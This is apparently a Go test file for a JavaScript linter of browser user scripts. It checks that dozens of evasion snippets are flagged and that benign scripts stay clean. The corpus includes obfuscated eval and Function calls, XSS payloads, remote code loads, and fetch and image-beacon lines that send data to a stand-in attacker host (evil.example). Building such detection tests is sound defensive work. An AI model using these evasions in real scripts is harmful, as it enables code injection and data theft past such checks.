package scriptlint_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/remixlet/remixlet/finding"
	"github.com/remixlet/remixlet/lint"
	"github.com/remixlet/remixlet/scriptlint"
)

// corpusManifest runs on news.example.com and may fetch from
// api.example.com and keep data in storage.
const corpusManifest = `{
  "name": "Evasion corpus",
  "api": "1.0.2",
  "matches": ["https://news.example.com/*"],
  "permissions": [
    {"permission": "storage", "reason": "Remember settings."},
    {"permission": "fetch:api.example.com", "reason": "Read the saved list."}
  ]
}
`

// lintScript lints a remixlet made of manifestJSON and script and returns
// the findings in script.js.
func lintScript(t testing.TB, manifestJSON, script string) []finding.Finding {
	t.Helper()
	dir := t.TempDir()
	for name, data := range map[string]string{"manifest.json": manifestJSON, "script.js": script} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	res := lint.Dir(dir)
	if res.Err != nil {
		t.Fatalf("could not check: %v", res.Err)
	}
	var out []finding.Finding
	for _, f := range res.Findings {
		if f.File == scriptlint.ScriptFile {
			out = append(out, f)
		}
	}
	return out
}

// evasion is one way of writing something the lint refuses, with the rule
// that must catch it, or "" and the reason it is not caught by design.
type evasion struct {
	code string
	rule string
	why  string // for rule == "": why the static check lets it pass
}

// The uses of storage and fetch keep the manifest's permissions in use.
const keepPermissions = "\nrmx.storage.get('k'); rmx.fetch('https://api.example.com/list');\n"

var evasions = []evasion{
	// eval, in every spelling
	{code: `eval(x)`, rule: "js/eval"},
	{code: `(0, eval)(x)`, rule: "js/eval"},
	{code: `eval?.(x)`, rule: "js/eval"},
	{code: `globalThis.eval(x)`, rule: "js/eval"},
	{code: `window.eval(x)`, rule: "js/eval"},
	{code: `self.eval(x)`, rule: "js/eval"},
	{code: `function f() { return this.eval(x) }; f()`, rule: "js/eval"},
	{code: `window["eval"](x)`, rule: "js/eval"},
	{code: `window["ev" + "al"](x)`, rule: "js/eval"},
	{code: "window[`ev${'al'}`](x)", rule: "js/eval"},
	{code: `\u0065val(x)`, rule: "js/eval"},
	{code: `const e = eval; e(x)`, rule: "js/eval"},
	{code: `let e; e = eval; e(x)`, rule: "js/eval"},
	{code: `const [e] = [eval]; e(x)`, rule: "js/eval"},
	{code: `const {eval: e} = globalThis; e(x)`, rule: "js/eval"},
	{code: `[eval][0](x)`, rule: "js/eval"},
	{code: `Reflect.apply(eval, null, [x])`, rule: "js/eval"},
	{code: `eval.call(null, x)`, rule: "js/eval"},
	{code: `eval.apply(null, [x])`, rule: "js/eval"},
	{code: `eval.bind(null)(x)`, rule: "js/eval"},
	{code: `(flag ? eval : alert)(x)`, rule: "js/eval"},
	{code: `(window.missing || eval)(x)`, rule: "js/eval"},
	{code: `window.window.top.eval(x)`, rule: "js/eval"},
	{code: `globalThis[String.fromCharCode(101, 118, 97, 108)](x)`, rule: "js/eval"},
	{code: `globalThis[atob("ZXZhbA==")](x)`, rule: "js/eval"},
	{code: `const k = "eval"; window[k](x)`, rule: "js/eval"},
	{code: `window["lave".split("").reverse().join("")](x)`, rule: "js/eval"},
	{code: `const parts = ["e", "v", "a", "l"]; window[parts.join("")](x)`, rule: "js/eval"},
	{code: `Reflect.get(window, "eval")(x)`, rule: "js/global-object"},
	{code: `window["EVAL".toLowerCase()](x)`, rule: "js/eval"},
	{code: `eval(atob(payload))`, rule: "js/eval"},
	{code: `Object.getOwnPropertyDescriptor(globalThis, "eval").value(x)`, rule: "js/global-object"},
	{code: `const o = {run: eval}; o.run(x)`, rule: "js/eval"},
	{code: `function call(f, a) { return f(a) }; call(eval, x)`, rule: "js/eval"},
	{code: `const fns = new Map([["e", eval]]); fns.get("e")(x)`, rule: "js/eval"},
	{code: `const make = [Function][0]; make("code")`, rule: "js/function-constructor"},
	{code: `const f = [x => x][0]; const g = f.call.bind(globalThis.eval); g(null, x)`, rule: "js/eval"},

	// Function and its kin
	{code: `Function("return 1")()`, rule: "js/function-constructor"},
	{code: `new Function("a", "return a")`, rule: "js/function-constructor"},
	{code: `[].constructor.constructor("code")()`, rule: "js/constructor-read"},
	{code: `"".constructor.constructor("code")()`, rule: "js/constructor-read"},
	{code: `x.constructor.constructor("code")()`, rule: "js/constructor-read"},
	{code: `[].filter.constructor("code")()`, rule: "js/constructor-read"},
	{code: `(() => {}).constructor("code")()`, rule: "js/constructor-read"},
	{code: `(async () => {}).constructor("code")()`, rule: "js/constructor-read"},
	{code: `(function* () {}).constructor("code")().next()`, rule: "js/constructor-read"},
	{code: `Function.prototype.constructor("code")()`, rule: "js/function-constructor"},
	{code: `Object.getPrototypeOf(async function () {}).constructor("code")()`, rule: "js/constructor-read"},
	{code: "Function`return 1`", rule: "js/function-constructor"},
	{code: `Reflect.construct(Function, ["code"])`, rule: "js/function-constructor"},
	{code: `const F = Function; new F("code")`, rule: "js/function-constructor"},
	{code: `window.Function("code")()`, rule: "js/function-constructor"},
	{code: `eval.constructor("code")()`, rule: "js/constructor-read"},
	{code: `function g() {}; g.constructor("code")()`, rule: "js/constructor-read"},

	// string timers
	{code: `setTimeout("work()", 10)`, rule: "js/string-timer"},
	{code: "setTimeout(`work(${n})`)", rule: "js/string-timer"},
	{code: `const c = "work()"; setInterval(c, 100)`, rule: "js/string-timer"},
	{code: `window.setTimeout("work()")`, rule: "js/string-timer"},
	{code: "setTimeout`work()`", rule: "js/string-timer"},
	{code: `setTimeout("run(" + n + ")")`, rule: "js/string-timer"},
	{code: `const st = setTimeout; st("work()")`, rule: "js/string-timer"},

	// remote code
	{code: `import("https://evil.example/x.js")`, rule: "js/remote-code"},
	{code: `const u = "https://evil.example/x.js"; import(u)`, rule: "js/remote-code"},
	{code: `import(url)`, rule: "js/remote-code"},
	{code: `import x from "https://evil.example/x.js"; x()`, rule: "js/remote-code"},
	{code: `export * from "./other.js"`, rule: "js/remote-code"},
	{code: `new Worker("https://evil.example/w.js")`, rule: "js/remote-code"},
	{code: `new Worker(url)`, rule: "js/remote-code"},
	{code: `importScripts("//evil.example/w.js")`, rule: "js/remote-code"},
	{code: `WebAssembly.instantiateStreaming(response)`, rule: "js/remote-code"},

	// script elements
	{code: `dom.create("SCRIPT")`, rule: "js/script-element"},
	{code: `dom.create("scr" + "ipt")`, rule: "js/script-element"},
	{code: "dom.create(`scr${'ipt'}`)", rule: "js/script-element"},
	{code: `const t = "script"; dom.create(t)`, rule: "js/script-element"},
	{code: `page.createElement("script")`, rule: "js/script-element"},
	{code: `page.createElementNS("http://www.w3.org/2000/svg", "svg:script")`, rule: "js/script-element"},

	// HTML handed to the page
	{code: `el.innerHTML = "<img src=x onerror=alert(1)>"`, rule: "js/unsafe-html"},
	{code: `el.innerHTML = "<ScRiPt>alert(1)</script>"`, rule: "js/unsafe-html"},
	{code: `el.insertAdjacentHTML("beforeend", "<a href='jav&#x61;script:alert(1)'>x</a>")`, rule: "js/unsafe-html"},
	{code: `el.outerHTML = '<img src="https://evil.example/p.gif">'`, rule: "js/unsafe-html"},
	{code: `dom.html("<svg><script>alert(1)</script></svg>")`, rule: "js/unsafe-html"},
	{code: "el.setHTML(`<b onclick=\"go()\">${label}</b>`)", rule: "js/unsafe-html"},
	{code: `el.innerHTML = html`, rule: "js/dynamic-html"},

	// element addresses
	{code: `img.src = "https://evil.example/p.gif"`, rule: "js/remote-src"},
	{code: `img.src = "https://evil.example/p.gif?d=" + secretData`, rule: "js/remote-src"},
	{code: `el.setAttribute("SRC", "//evil.example/x")`, rule: "js/remote-src"},
	{code: `Object.assign(img, {src: "https://evil.example/p.gif"})`, rule: "js/remote-src"},
	{code: `dom.create("img", {src: "javascript:alert(1)"})`, rule: "js/remote-src"},
	{code: `link.href = "https://evil.example/"`, rule: "js/remote-src"},
	{code: `img.srcset = "https://news.example.com/a.png 1x, https://evil.example/b.png 2x"`, rule: "js/remote-src"},
	{code: `img.src = "blob:https://news.example.com/1234"`, rule: "js/remote-src"},

	// replaced globals
	{code: `fetch("https://api.example.com/")`, rule: "js/replaced-global"},
	{code: `window.fetch(u)`, rule: "js/replaced-global"},
	{code: `globalThis["fetch"](u)`, rule: "js/replaced-global"},
	{code: `navigator.sendBeacon(u, d)`, rule: "js/unknown-global"},
	{code: `new WebSocket(u)`, rule: "js/replaced-global"},
	{code: `localStorage.setItem("a", "b")`, rule: "js/replaced-global"},
	{code: `location = "https://evil.example/"`, rule: "js/replaced-global"},
	{code: `location.href = "https://evil.example/"`, rule: "js/replaced-global"},
	{code: `window.open(u)`, rule: "js/replaced-global"},
	{code: `new RTCPeerConnection()`, rule: "js/replaced-global"},
	{code: `document.defaultView.eval(x)`, rule: "js/replaced-global"},

	// globals read with keys the check cannot decide (warnings)
	{code: `window[name](x)`, rule: "js/dynamic-global"},
	{code: `globalThis[atob(s)](x)`, rule: "js/dynamic-global"},
	{code: `function g() { return "ev" + "al" }; window[g()](x)`, rule: "js/dynamic-global"},
	{code: `rmx[service]()`, rule: "js/dynamic-global"},

	// permissions
	{code: `rmx.fetch("https://evil.example/steal?d=" + data)`, rule: "js/fetch-host"},
	{code: "rmx.fetch(`https://evil.example/${path}`)", rule: "js/fetch-host"},
	{code: `rmx.notify("hello")`, rule: "js/missing-permission"},
	{code: `const r = rmx; r.clipboard.write("x")`, rule: "js/missing-permission"},
	{code: `const {menu} = rmx; menu.add("x")`, rule: "js/missing-permission"},

	// secrets
	{code: `const k = "AKIAIOSFODNN7EXAMPLE"`, rule: "js/secret"},
	{code: `const apiKey = "Zq8vR2mK9xLp4WdT7nBc"`, rule: "js/secret"},
	{code: `rmx.fetch("https://api.example.com/?key=" + apiKey)`, rule: "js/secret-leak"},
	{code: "rmx.fetch(`https://api.example.com/items?token=${token}`)", rule: "js/secret-leak"},
	{code: `rmx.log("token: " + token)`, rule: "js/secret-leak"},
	{code: `throw new Error("login failed for " + password)`, rule: "js/secret-leak"},

	// built-ins changed, prototypes set to functions
	{code: `Array.prototype.map = function () { return [] }`, rule: "js/intrinsic-write"},
	{code: `Object.prototype.toString = () => "x"`, rule: "js/intrinsic-write"},
	{code: `Array.prototype[Symbol.iterator] = function* () {}`, rule: "js/intrinsic-write"},
	{code: `Object.defineProperty(Object.prototype, "then", { get() { return 1 } })`, rule: "js/intrinsic-write"},
	{code: `Reflect.set(Object.prototype, "valueOf", () => 1)`, rule: "js/intrinsic-write"},
	{code: `Object.assign(Array.prototype, { last() { return 1 } })`, rule: "js/intrinsic-write"},
	{code: `delete Array.prototype.map`, rule: "js/intrinsic-write"},
	{code: `[].__proto__.push = () => 0`, rule: "js/intrinsic-write"},
	{code: `(() => {}).__proto__.bind = () => 0`, rule: "js/intrinsic-write"},
	{code: `Object.getPrototypeOf("").trim = () => ""`, rule: "js/intrinsic-write"},
	{code: `const AP = Array.prototype; AP.at = () => 0`, rule: "js/intrinsic-write"},
	{code: `window.Array.prototype.at = () => 0`, rule: "js/intrinsic-write"},
	{code: `Math.max = () => 0`, rule: "js/intrinsic-write"},
	{code: `JSON.parse = (s) => s`, rule: "js/intrinsic-write"},
	{code: `Promise.prototype.then = function () {}`, rule: "js/intrinsic-write"},
	{code: `const o = { __proto__: () => {} }; o.x = 1`, rule: "js/intrinsic-write"},
	{code: `const o = { __proto__: Object }; o.x = 1`, rule: "js/intrinsic-write"},
	{code: `const o = {}; Object.setPrototypeOf(o, () => {})`, rule: "js/intrinsic-write"},
	{code: `const o = {}; Reflect.setPrototypeOf(o, function () {})`, rule: "js/intrinsic-write"},
	{code: `const o = {}; o.__proto__ = () => {}`, rule: "js/intrinsic-write"},
	{code: `const o = Object.create(() => {}); o.x = 1`, rule: "js/intrinsic-write"},
	{code: `function F() {} F.prototype = () => {}`, rule: "js/intrinsic-write"},
	{code: `const d = { __proto__: () => {} }; d[key](src)()`, rule: "js/constructor-read"},
	{code: `const o = {}; Object.setPrototypeOf(o, () => {}); o[key](src)()`, rule: "js/constructor-read"},

	// a dead branch never hides a live one: only a proved condition is dead
	{code: `if (typeof define !== "function") eval(src)`, rule: "js/eval"},
	{code: `let debug = false; debug = src; if (debug) eval(src)`, rule: "js/eval"},
	{code: `var on = true; if (!on) eval(src)`, rule: "js/eval"},
	{code: `if (typeof navigator === "undefined") {} else eval(src)`, rule: "js/eval"},
	{code: `typeof module === "object" && module.exports ? 0 : eval(src)`, rule: "js/eval"},
	{code: `switch (key) { case "a": eval(src) }`, rule: "js/eval"},
	{code: `switch ("a") { case "a": break; default: 1 } eval(src)`, rule: "js/eval"},
	{code: `const f = () => 0; f && eval(src)`, rule: "js/eval"},
	{code: `if (0 > 1) {} eval(src)`, rule: "js/eval"},

	// rmx, dom and location handed on as values
	{code: `const l = [location][0]; l.href = "https://evil.example/"`, rule: "js/api-value"},
	{code: `Object.values({ a: location })[0].hash = "x"`, rule: "js/api-value"},
	{code: `Reflect.set(location, "href", "https://evil.example/")`, rule: "js/api-value"},
	{code: `function go(l) { l.assign("https://evil.example/") } go(location)`, rule: "js/api-value"},
	{code: `const d = dom; d.html("<img src=x onerror=alert(1)>")`, rule: "js/api-value"},
	{code: `export default rmx`, rule: "js/api-value"},

	// not caught, by design
	{code: `eval("fetch('https://evil.example/')")`, rule: "js/replaced-global"}, // the literal is linted as code
	{code: `eval("rmx.log(1)")`, why: "eval of a string literal is allowed (the seed's rule): the code is in the file for anyone to read, and it is linted as code with every check"},
	{code: `const run = "eval"; const fns = {}; fns[run] = globalThis[run]; fns.eval(x)`, rule: "js/eval"},
	{code: `setTimeout(task, 10)`, rule: "js/string-timer"},
	{code: `img.src = await lookUpAddress()`, why: "an address computed at run time is not known statically; the page agent checks it when it is set"},
	{code: `new Worker("data:text/javascript,postMessage(1)")`, rule: "js/unknown-global"},
}

func TestEvasionCorpus(t *testing.T) {
	caught, byDesign := 0, 0
	for _, ev := range evasions {
		findings := lintScript(t, corpusManifest, ev.code+keepPermissions)
		var rules []string
		for _, f := range findings {
			rules = append(rules, f.Rule)
		}
		switch {
		case ev.rule == "":
			byDesign++
			for _, r := range rules {
				if r == "js/eval" || r == "js/function-constructor" || r == "js/remote-code" || r == "js/string-timer" || r == "js/remote-src" {
					t.Errorf("%s\n  listed as not caught by design, but reported %v: move it to the caught forms", ev.code, rules)
				}
			}
			if ev.why == "" {
				t.Errorf("%s: say why it is not caught", ev.code)
			}
		case slices.Contains(rules, ev.rule):
			caught++
		default:
			t.Errorf("%s\n  want %s, got %v", ev.code, ev.rule, rules)
		}
	}
	t.Logf("evasion corpus: %d forms, %d caught, %d not caught by design", len(evasions), caught, byDesign)
	if len(evasions) < 60 {
		t.Errorf("the corpus must hold at least 60 forms, has %d", len(evasions))
	}
}

// benign scripts must lint without any finding in script.js.
var benign = []string{
	`// eval(x) in a comment, and "eval(" in a string, and new Function in words
const note = "never call eval(x) or new Function(body)";
const re = /eval\(/;
console.log(note, re.test("eval(1)"));`,
	`const two = eval("1+1");`,
	`setTimeout(() => tick(), 1000); setInterval(function () { tick() }, 500);
function tick() {}`,
	`class Counter {
  #count = 0;
  static #instances = 0;
  get value() { return this.#count }
  increment() { this.#count++; return this }
  static { Counter.#instances = 0 }
  has(o) { return #count in o }
}
new Counter().increment();`,
	`async function* numbers() { yield 1n; yield 2n ** 64n }
for await (const n of numbers()) { rmx.log(String(n)) }
const config = await rmx.storage.get("config");
const cfg = config?.deeply?.nested ?? { fallback: true };
const big = 12345678901234567890n;
const data = await Promise.resolve(42);
label: for (const x of [1, 2]) { if (x) continue label }
const { a = 1, ...rest } = { b: 2 };
const tag = (s, ...v) => s.raw.join("") + v.join("");
tag` + "`x${1}y`" + `;`,
	`const el = await dom.create("div", { class: "note", "data-x": "1" });
await el.setAttribute("title", "hello");
await el.setAttribute("href", "https://news.example.com/story/1");
const img = await dom.create("img", { src: "https://news.example.com/a.png", alt: "" });
const pic = await dom.create("img", { src: "data:image/png;base64,iVBORw0KGgo=" });
rmx.keep({ name: "x", async check() { return (await dom.queryAll("article[data-promoted='true']")).length === 0 }, async repair() {} });`,
	`const url = "https://api.example.com/v1/items?limit=10";
const res = await rmx.fetch(url);
const token = "access_token"; // a field name, not a credential
const headers = { "Content-Type": "application/json" };
rmx.storage.set("last", await res.text());`,
	`let documentTitle = "x"; const fetchCount = 1; function open(a) { return a }
const location = { href: "local" }; location.href = "still local";
open(documentTitle);`,
	`const sha = "3a7bd3e2360a3d29eea436fcfb7e44c735d117c42d1c1835420b6b9942dd4f1b";
const id = "550e8400-e29b-41d4-a716-446655440000";
const asset = "https://news.example.com/static/a8Fk2LmQ9xZp4WdTb7Rc/app.css";
const integrity = "sha384-oqVuAfXRKap7fdgcCY5uykM6+R9GqQ8K/uxy9rx7HNQlGYl1kPzQho1wx4JwY8wC";`,
	`if (typeof document === "undefined") { rmx.log("no document here, as expected") }`,
}

func TestBenignScriptsStayClean(t *testing.T) {
	for _, code := range benign {
		if fs := lintScript(t, corpusManifest, code+keepPermissions); len(fs) > 0 {
			t.Errorf("benign script reported:\n%s\n--\n%s", code, strings.Join(func() []string {
				var s []string
				for _, f := range fs {
					s = append(s, f.String())
				}
				return s
			}(), "\n"))
		}
	}
}

// A constant address reaches import() folded: the message names the
// address, not "built at run time".
func TestFoldedImportNamesTheAddress(t *testing.T) {
	fs := lintScript(t, corpusManifest, `const u = "https://evil." + "example/x.js";`+"\nimport(u);"+keepPermissions)
	if len(fs) != 1 || fs[0].Rule != "js/remote-code" || !strings.Contains(fs[0].Message, `import("https://evil.example/x.js")`) {
		t.Fatalf("got %v", fs)
	}
}
